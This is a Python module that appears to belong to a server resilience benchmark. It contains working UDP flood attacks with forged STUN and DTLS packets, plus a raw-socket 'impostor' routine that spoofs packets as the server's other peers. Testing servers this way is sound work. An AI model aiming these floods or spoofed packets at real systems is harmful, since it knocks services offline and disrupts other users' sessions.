"""Attacks over UDP by those who are in no room: floods, and packets in the name of others."""

import asyncio
import secrets
import socket
import struct
import time
from collections.abc import Callable
from pathlib import Path
from typing import Final

from aioice import stun

from benchmarks.attacks.target import Target, attack

A_SECOND: Final = 5_000
HEADERS: Final = 28
"""Bytes of IPv4 and UDP that each datagram takes beside its own."""
_BURST: Final = 500


def _binding() -> bytes:
    message = stun.Message(stun.Method.BINDING, stun.Class.REQUEST)
    message.attributes["USERNAME"] = f"{secrets.token_hex(4)}:{secrets.token_hex(4)}"
    message.attributes["PRIORITY"] = 1_845_501_695
    message.attributes["ICE-CONTROLLING"] = 1
    message.add_message_integrity(secrets.token_bytes(20))
    message.add_fingerprint()
    return bytes(message)


def client_hello() -> bytes:
    """A record of DTLS 1.2 with a ClientHello that nobody means."""
    body = b"\xfe\xfd" + secrets.token_bytes(32) + b"\x00\x00\x00\x02\xc0\x2b\x01\x00"
    size = len(body).to_bytes(3, "big")
    shake = b"\x01" + size + b"\x00\x00" + b"\x00\x00\x00" + size + body
    return b"\x16\xfe\xfd" + bytes(8) + len(shake).to_bytes(2, "big") + shake


async def paced(
    target: Target, a_second: float, send: Callable[[int], None], between: Callable[[], None]
) -> None:
    """Send so many a second. What is not made in time is left out, not made up for in one burst."""
    begin, sent = time.monotonic(), 0
    while target.goes_on:
        due = int((time.monotonic() - begin) * a_second)
        for number in range(sent, min(due, sent + _BURST)):
            try:
                send(number)
            except (BlockingIOError, ConnectionRefusedError):
                break
            target.done["datagrams"] += 1
        sent = due
        between()
        await asyncio.sleep(0.002)


def bound(host: str, count: int) -> list[socket.socket]:
    """So many ports there."""
    ends = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(count)]
    for end in ends:
        end.bind((host, 0))
        end.setblocking(False)
        end.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
    return ends


def received(ends: list[socket.socket]) -> int:
    """Bytes that have come there since, with their headers."""
    size = 0
    for end in ends:
        try:
            while True:
                size += len(end.recv(4096)) + HEADERS
        except OSError:
            continue
    return size


async def _flood(target: Target, datagrams: list[bytes]) -> None:
    """5,000 a second, from changing ports; what comes back is counted."""
    ends = bound(target.me, 20)

    def send(number: int) -> None:
        data = datagrams[number % len(datagrams)]
        ends[number % len(ends)].sendto(data, (target.host, target.port))
        target.done["bytes_in"] += len(data) + HEADERS

    def count() -> None:
        target.done["bytes_out"] += received(ends)

    try:
        await paced(target, A_SECOND, send, count)
    finally:
        for end in ends:
            end.close()


@attack("server bad stun", least=500)
async def stun_flood(target: Target) -> None:
    """Checks of nobody, 5,000 a second."""
    await _flood(target, [_binding() for _ in range(200)])


@attack("server stray", least=500)
async def dtls_flood(target: Target) -> None:
    """ClientHellos from addresses that no check has shown, 5,000 a second."""
    await _flood(target, [client_hello() for _ in range(200)])


@attack("server stray", "server bad stun", least=500)
async def junk_flood(target: Target) -> None:
    """Datagrams that are nothing, or look like sound, 5,000 a second."""
    firsts = [0x80 if number % 2 else number for number in range(200)]
    await _flood(target, [bytes([first]) + secrets.token_bytes(20 + 2 * first) for first in firsts])


def _ports_in_use() -> list[int]:
    lines = Path("/proc/net/udp").read_text().splitlines()[1:]
    return [int(line.split()[1].split(":")[1], 16) for line in lines]


@attack("server bad srtp", "server stray", "server bad stun", least=500)
async def impostor(target: Target) -> None:
    """Packets in the name of everybody who talks to the server, 5,000 a second; takes root."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setblocking(False)
    here = socket.inet_aton(target.me)
    ports = _ports_in_use()
    junk = [
        bytes([128, 111]) + secrets.token_bytes(100),
        bytes([128, 200]) + secrets.token_bytes(100),
        client_hello(),
        _binding(),
        b"\x15\xfe\xfd" + bytes(8) + b"\x00\x02\x02\x28",  # a fatal alert, handshake_failure
    ]

    def send(number: int) -> None:
        data = junk[number % len(junk)]
        port = ports[number // len(junk) % len(ports)]
        if port == target.port:
            return
        udp = struct.pack("!HHHH", port, target.port, 8 + len(data), 0)
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp) + len(data), 0, 0, 64, 17, 0)
        there = socket.inet_aton(target.host)
        raw.sendto(ip + here + there + udp + data, (target.host, 0))

    try:
        await paced(target, A_SECOND, send, lambda: None)
    finally:
        raw.close()
